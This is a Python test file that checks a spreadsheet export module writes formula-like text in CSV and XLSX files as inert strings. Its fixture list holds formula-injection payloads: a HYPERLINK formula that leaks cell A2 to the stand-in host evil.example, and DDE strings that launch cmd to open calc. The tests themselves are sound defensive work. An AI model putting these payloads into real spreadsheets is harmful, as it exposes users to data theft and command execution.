"""Every CSV and XLSX export writes formula-like text as inert text (learning.spreadsheets)."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from learning.spreadsheets import append_row, csv_bytes, csv_cell, is_formula_like

# The payloads from issue 16, and each starting character on its own.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Se status")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_writes_formula_like_text_after_an_apostrophe(payload):
    assert is_formula_like(payload)
    rows = list(
        csv.reader(io.StringIO(csv_bytes([["Navn"], [payload]]).decode("utf-8-sig")), delimiter=";")
    )
    assert rows[1] == ["'" + payload]


def test_numbers_and_ordinary_text_are_left_alone():
    for value in ["-0.250", "12", "+3", "Hjemmeplejen", "–", "Bo-Erik", ""]:
        assert csv_cell(value) == value
    assert csv_cell(None) == ""
    assert csv_cell(-3) == "-3"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_stores_formula_like_text_as_a_string_not_a_formula(payload):
    workbook = Workbook()
    append_row(workbook.active, ["Navn", 7])
    append_row(workbook.active, [payload, -1])
    out = io.BytesIO()
    workbook.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == payload
    assert sheet["B2"].value == -1 and sheet["B2"].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
